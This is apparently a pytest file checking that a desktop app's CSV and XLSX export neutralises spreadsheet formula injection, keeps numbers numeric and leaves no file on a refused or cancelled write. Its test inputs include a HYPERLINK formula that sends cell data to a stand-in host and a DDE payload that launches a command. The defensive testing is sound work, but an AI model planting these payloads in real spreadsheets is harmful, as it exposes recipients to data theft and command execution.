"""Spreadsheet cells that would run as formulas are neutralised in CSV and XLSX, real numbers
stay numbers, and a refused or cancelled write leaves no file."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cdmo_desktop.exchange.errors import ExchangeError
from cdmo_desktop.exchange.sheets import (
    Cancelled,
    Sheet,
    SheetColumn,
    neutralise,
    write_sheets,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [
    SheetColumn("Text"),
    SheetColumn("Variance", "money"),
    SheetColumn("Lag", "int"),
    SheetColumn("Due", "date"),
]


def _rows() -> list[list[object]]:
    return [[text, Decimal("-1250.50"), -3, date(2027, 1, 2)] for text in HOSTILE]


def test_neutralise_prefixes_formula_starts_only() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("Plain", "", "a=b", " =1", "'quoted", "1-2"):
        assert neutralise(text) == text


def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "hostile.xlsx"
    write_sheets(out, [Sheet("=Risks", [SheetColumn("=Header"), *COLUMNS[1:]], _rows())])
    ws = load_workbook(out).active  # not read-only: shows each cell's data type
    assert ws is not None
    assert ws["A1"].value == "'=Header" and ws["A1"].data_type == "s"
    for n, text in enumerate(HOSTILE, start=2):
        cell = ws.cell(row=n, column=1)
        # XML reads a carriage return back as a line feed
        assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")
        variance, lag, due = (ws.cell(row=n, column=c) for c in (2, 3, 4))
        assert variance.data_type == "n" and Decimal(str(variance.value)) == Decimal("-1250.50")
        assert lag.data_type == "n" and lag.value == -3
        assert due.is_date and due.value.date() == date(2027, 1, 2)
    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_csv_cells_are_neutralised_and_numbers_are_not(tmp_path: Path) -> None:
    out = tmp_path / "hostile.csv"
    write_sheets(out, [Sheet("Risks", COLUMNS, _rows())])
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read it as UTF-8
    with open(out, encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    assert lines[0] == ["Text", "Variance", "Lag", "Due"]
    assert [line[0] for line in lines[1:]] == ["'" + t for t in HOSTILE]
    assert {tuple(line[1:]) for line in lines[1:]} == {("-1250.50", "-3", "2027-01-02")}


def test_text_xml_cannot_carry_is_replaced_in_xlsx(tmp_path: Path) -> None:
    out = tmp_path / "ctrl.xlsx"
    write_sheets(out, [Sheet("S", [SheetColumn("T")], [["bell\x07 nul\x00 ok"]])])
    ws = load_workbook(out).active
    assert ws is not None and ws["A2"].value == "bell\ufffd nul\ufffd ok"


@pytest.mark.parametrize("name", ["risks.ods", "risks", "risks.xls", "risks.csv.txt"])
def test_other_extensions_are_refused_before_writing(tmp_path: Path, name: str) -> None:
    with pytest.raises(ExchangeError, match=r"\.csv or \.xlsx"):
        write_sheets(tmp_path / name, [Sheet("S", COLUMNS, _rows())])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_cancelled_write_leaves_nothing(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"big.{suffix}"
    out.write_text("the previous export")

    def stop(done: int) -> None:
        raise Cancelled

    rows = ([f"row {i}", Decimal(i), i, None] for i in range(5000))
    with pytest.raises(Cancelled):
        write_sheets(out, [Sheet("S", COLUMNS, rows)], stop)
    assert [p.name for p in tmp_path.iterdir()] == [out.name]
    assert out.read_text() == "the previous export"
